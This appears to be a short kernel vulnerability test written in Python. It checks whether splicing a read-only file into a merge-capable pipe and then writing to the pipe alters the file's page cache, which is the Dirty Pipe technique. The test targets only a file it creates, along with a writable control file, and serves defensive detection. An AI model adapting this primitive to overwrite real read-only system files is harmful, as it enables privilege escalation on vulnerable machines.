# Splice a byte of a read-only file into a pipe whose buffers may be merged into, then write to the pipe. The file is the
# box's own, opened for reading only: a kernel that has the bug shows it, and nobody is harmed. The control may write its file, which
# is in memory, and splices back what is in the pipe: so it succeeds on every kernel, and the change is seen.
path = "/proc/self/fd/%d" % os.memfd_create("own") if CONTROL else "/tmp/read-only-" + NONCE
with open(path, "wb") as file: file.write(b"a" * 64)
fd = os.open(path, os.O_RDWR if CONTROL else os.O_RDONLY)
reader, writer = os.pipe()
for _ in range(16): os.write(writer, b"x" * 4096)
for _ in range(16): os.read(reader, 4096)
place = ctypes.c_long(0)
if libc.splice(fd, ctypes.byref(place), writer, None, ctypes.c_size_t(1), 0) != 1:
    held("splice: " + errno.errorcode.get(ctypes.get_errno(), "nothing moved"))
os.write(writer, b"b")
if CONTROL: libc.splice(reader, None, fd, ctypes.byref(ctypes.c_long(0)), ctypes.c_size_t(2), 0)
if open(path, "rb").read() != b"a" * 64: escaped("the page cache of a file that was opened for reading changed")
held("the file is as it was after the write")
